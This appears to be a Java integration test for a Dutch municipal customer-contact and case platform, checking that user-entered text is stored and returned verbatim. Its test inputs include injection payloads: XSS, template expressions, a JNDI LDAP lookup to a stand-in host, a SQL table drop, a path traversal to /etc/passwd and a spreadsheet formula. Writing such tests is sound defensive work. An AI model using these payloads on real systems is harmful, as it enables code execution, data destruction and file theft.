package nl.zaakregie.platform.web;

import static nl.zaakregie.support.Voorbeelden.aanvraag;
import static nl.zaakregie.support.Voorbeelden.directContactOfNewCustomer;
import static nl.zaakregie.support.Voorbeelden.directeVraag;
import static nl.zaakregie.support.Voorbeelden.parkeervergunning;
import static nl.zaakregie.support.Voorbeelden.with;
import static nl.zaakregie.support.Voorbeelden.withVervolgvragen;
import static nl.zaakregie.support.Voorbeelden.zaken;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.UUID;
import java.util.stream.Stream;
import nl.zaakregie.support.ApiClient;
import nl.zaakregie.support.ApiClient.Answer;
import nl.zaakregie.support.ApplicationTest;
import nl.zaakregie.support.Kcc;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** Whatever people type or paste is text: it is kept and given back as it was, and never becomes markup, code or a query. */
@ApplicationTest
class PlatteTekstIT {

    private static final String CONTACTEN = "/api/v1/klantcontacten/";

    private final Kcc kcc;

    @Autowired
    PlatteTekstIT(@LocalServerPort int port) {
        this.kcc = new Kcc(port);
    }

    static Stream<String> texts() {
        return Stream.of(
                "<script>alert(1)</script><img src=x onerror=alert(1)>",
                "${7*7} #{7*7} ${jndi:ldap://voorbeeld.example/x} {{7*7}} %{7*7}",
                "'; drop table klant; -- \" \\ ` ?1 :naam $1",
                "regel een\nregel twee\r\n\tmet tab",
                "\u202Eomgekeerd\u202C \u200Bonzichtbaar\uFEFF",
                "\u0001\u0008\u001B[31m\u007F\u0085",
                "José e\u0301 ij Ĳ ﷺ 𝄞 👩‍👩‍👧 ẞ",
                "  ruimte voor en na  ",
                "%00%0a../../etc/passwd",
                "=HYPERLINK(\"x\")",
                "null",
                "0");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void inAContact(String text) {
        String body = directContactOfNewCustomer("Voorbeeld");
        for (String field : new String[] {"vraag", "antwoord", "notitie"}) {
            body = with(body, "/" + field, text);
        }
        for (String field : new String[] {"naam", "voornaam", "straatnaam", "woonplaats"}) {
            body = with(body, "/betrokkene/gegevens/" + field, text);
        }

        body = withVervolgvragen(body, with(with(directeVraag(), "/vraag", text), "/antwoord", text));

        Answer contact = kcc.contact(kcc.register(body));

        assertThat(contact.text("/vragen/1/vraag")).isEqualTo(text);
        assertThat(contact.text("/vragen/1/antwoord")).isEqualTo(text);
        assertThat(contact.text("/vraag")).isEqualTo(text);
        assertThat(contact.text("/antwoord")).isEqualTo(text);
        assertThat(contact.text("/notitie")).isEqualTo(text);
        assertThat(contact.text("/betrokkene/naam")).isEqualTo(text);
        Answer klant = kcc.as("anja").get("/api/v1/klanten/" + contact.text("/betrokkene/klantnummer"));
        assertThat(klant.text("/naam")).isEqualTo(text);
        assertThat(klant.text("/voornaam")).isEqualTo(text);
        assertThat(klant.text("/straatnaam")).isEqualTo(text);
        assertThat(klant.text("/woonplaats")).isEqualTo(text);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void inASearchForACustomer(String text) {
        // Another test may have a customer with the same words in his name.
        String naam = text + " " + UUID.randomUUID();
        String contact = kcc.register(with(directContactOfNewCustomer("Voorbeeld"), "/betrokkene/gegevens/naam", naam));

        Answer found = kcc.as("anja").post("/api/v1/klanten/zoekopdracht", with("{}", "/naam", naam));

        assertThat(found.json().path("klanten").findValuesAsText("klantnummer"))
                .contains(kcc.contact(contact).text("/betrokkene/klantnummer"));
        assertThat(found.json().path("klanten").findValuesAsText("naam")).containsOnly(naam);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void inAZaak(String text) {
        String nummer = kcc.register(aanvraag("parkeervergunning-aanvragen", "parkeervergunning"));
        String withText = with(parkeervergunning(), "/toelichting", text);
        Answer answer = kcc.as("anja")
                .post(CONTACTEN + nummer + "/intake", zaken(with(withText, "/eigenschappen/straatnaam", text)));
        String kept = text;
        if (answer.status() == 400) {
            assertThat(answer.refusals()).containsExactly("zaken[0].eigenschappen.straatnaam: vorm");
            kept = "Voorbeeldstraat";
            answer = kcc.as("anja").post(CONTACTEN + nummer + "/intake", zaken(withText));
        }

        String zaaknummer = answer.text("/zaken/0/nummer");
        assertThat(kcc.zaak(zaaknummer).text("/toelichting")).isEqualTo(text);
        assertThat(kcc.zaak(zaaknummer).text("/eigenschappen/straatnaam")).isEqualTo(kept);
        String closing = "{\"uitkomst\": \"AFGEHANDELD\", \"resultaattype\": \"verleend\", \"versie\": 0}";
        Answer closed = kcc.as("olga")
                .post("/api/v1/zaken/" + zaaknummer + "/behandeling", with(closing, "/toelichting", text));
        assertThat(closed.status()).as(closed.text()).isEqualTo(200);
        assertThat(kcc.zaak(zaaknummer).text("/notities/0/tekst")).isEqualTo(text);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void inATransferAndItsAnswer(String text) {
        String nummer = kcc.registerTooComplex();
        ApiClient anja = kcc.as("anja");
        String transfer = with("{\"vorm\": \"DOORVERBONDEN\", \"afdeling\": \"vergunningen\"}", "/toelichting", text);
        assertThat(anja.post(CONTACTEN + nummer + "/overdracht", with(transfer, "/medewerker", text))
                        .status())
                .isEqualTo(200);
        String judgement = with("{\"uitkomst\": \"AFGEHANDELD\"}", "/antwoord", text);
        assertThat(kcc.as("vera")
                        .post(CONTACTEN + nummer + "/beoordeling", judgement)
                        .status())
                .isEqualTo(200);

        Answer contact = kcc.contact(nummer);
        assertThat(contact.text("/overdracht/toelichting")).isEqualTo(text);
        assertThat(contact.text("/overdracht/medewerker")).isEqualTo(text);
        assertThat(contact.text("/antwoord")).isEqualTo(text);
    }
}
